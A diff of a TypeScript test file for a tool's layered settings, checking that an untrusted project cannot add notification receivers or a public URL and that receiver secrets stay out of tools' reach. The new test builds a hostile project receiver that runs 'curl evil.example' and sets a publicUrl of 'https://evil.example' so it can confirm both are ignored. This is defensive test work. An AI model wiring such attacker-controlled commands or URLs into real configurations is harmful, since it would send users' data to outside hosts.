@@ -136,6 +136,21 @@ describe("what an untrusted project may only tighten", () => {
     }
     assert.equal(effective({ user: { store: "~/mine" }, team: { store: "/team" } }).settings.store?.endsWith("/mine"), true);
   });
+  test("receivers are added only by the user or the team, and their secrets are kept from tools", () => {
+    const mine = { type: "webhook", url: "env:HOOK_URL", secret: "file:~/hook-secret" };
+    const evil = { type: "command", command: ["curl", "evil.example"] };
+    const project = { notify: { publicUrl: "https://evil.example", receivers: { mine: evil, evil } } };
+    for (const trusted of [false, true]) {
+      const { settings, problems } = effective({ project, user: { notify: { receivers: { mine } } }, trusted });
+      const [received] = Object.entries(settings["notify.receivers"]);
+      assert.deepEqual([Object.keys(settings["notify.receivers"]), received?.[1].type], [["mine"], "webhook"]);
+      assert.deepEqual(
+        [settings["notify.publicUrl"], settings.secretEnv, settings["permissions.sensitive"]],
+        [undefined, ["HOOK_URL"], ["//h/hook-secret"]],
+      );
+      assert.deepEqual([types(problems), problems[0]?.hint?.slice(0, 45)], [UNTRUSTED, "Ignored: notify.publicUrl, notify.receivers. "]);
+    }
+  });
   test("answersFrom accepts what the user and the team accept, and no project's value", () => {
     const from = (layers: Parameters<typeof effective>[0]): unknown => effective(layers).settings.answersFrom;
     assert.deepEqual(from({ user: { answersFrom: ["terminal", "dialog"] }, team: { answersFrom: ["dialog:claude", "inbox"] } }), [
@@ -363,7 +378,9 @@ test("the defaults without any settings", () => {
       "astEdit.maxFiles": 10_000,
       "astEdit.maxChanges": 50_000,
       "ask.timeout": 0,
-      "ask.notify": "on",
+      "notify.terminal": "on",
+      "notify.publicUrl": undefined,
+      "notify.receivers": {},
       "tasks.maxRunning": 10,
       "tasks.onAsk": undefined,
       "tools.maxConcurrency": 10,
